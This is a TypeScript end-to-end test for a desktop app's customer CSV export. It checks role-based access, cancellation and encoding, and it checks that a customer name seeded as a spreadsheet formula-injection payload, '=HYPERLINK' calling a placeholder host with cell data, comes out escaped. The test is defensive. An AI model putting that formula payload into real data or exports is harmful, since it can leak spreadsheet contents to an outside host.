import fs from 'node:fs';
import path from 'node:path';
import { afterEach, expect, it } from 'vitest';
import { describeKeychain } from '../support/keyring';
import { tempDir } from '../support/tmp';
import { launchApp, signIn, type TestApp } from './harness';
import { ok, seedVault } from './seed';

const OWNER = { username: 'boss', displayName: 'Boss', password: 'Lantern-Harbor-42' };
const MANAGER = { username: 'mia', displayName: 'Mia 王', password: 'Silver-Maple-58' };

async function seedExportVault(profileDir: string): Promise<void> {
  await seedVault(profileDir, OWNER, async (router) => {
    await ok(router, 'seed', 'users.create', { ...MANAGER, role: 'manager' });
    await ok(router, 'seed', 'customers.create', { name: '王伟', mobile: '13912345678', level: 'vip' });
    await ok(router, 'seed', 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1)', level: 'vip' });
    await ok(router, 'seed', 'customers.create', { name: 'Acme Tea', level: 'regular' });
  });
}

let app: TestApp | undefined;
afterEach(async () => {
  await app?.close();
  app = undefined;
});

describeKeychain('exporting customers, in Chromium', () => {
  it('the owner exports this view as CSV from the dialog; main writes it; the manager has no Export button', async () => {
    const profileDir = tempDir('coffer-e2e-export-');
    const folder = tempDir('coffer-e2e-export-out-');
    await seedExportVault(profileDir);
    const saved: string[] = [];
    app = await launchApp({
      profileDir,
      core: {
        pickSaveFile: async (name) => {
          const file = path.join(folder, name);
          saved.push(file);
          return file;
        },
      },
    });
    const { page } = app;
    await signIn(app, OWNER);
    await page.getByRole('button', { name: 'Customers' }).click();
    await page.getByTestId('customers-table').waitFor();
    await page.getByRole('group', { name: 'Filters' }).getByLabel('Level').selectOption('vip');
    await expect.poll(() => page.getByTestId('customer-row').count()).toBe(2);

    await page.getByTestId('export-open').click();
    const dialog = page.getByTestId('export-dialog');
    await dialog.getByLabel('CSV (.csv)').check();
    await dialog.getByLabel('GBK (older Excel on Chinese Windows)').waitFor();
    await dialog.getByRole('button', { name: 'Choose where to save…' }).click();
    await expect.poll(() => page.getByTestId('export-result').textContent()).toContain('Exported 2 customers.');
    expect(saved).toHaveLength(1);
    const csv = fs.readFileSync(saved[0]!).toString('utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('王伟');
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`);
    expect(csv).not.toContain('Acme Tea');

    // Cancelling the dialog asks main nothing.
    await page.getByTestId('export-open').click();
    await page.getByTestId('export-dialog').getByRole('button', { name: 'Cancel' }).click();
    expect(saved).toHaveLength(1);

    await page.getByRole('button', { name: 'Home' }).click();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await signIn(app, MANAGER);
    await page.getByRole('button', { name: 'Customers' }).click();
    await page.getByTestId('customers-table').waitFor();
    expect(await page.getByTestId('export-open').count()).toBe(0);
  });
});
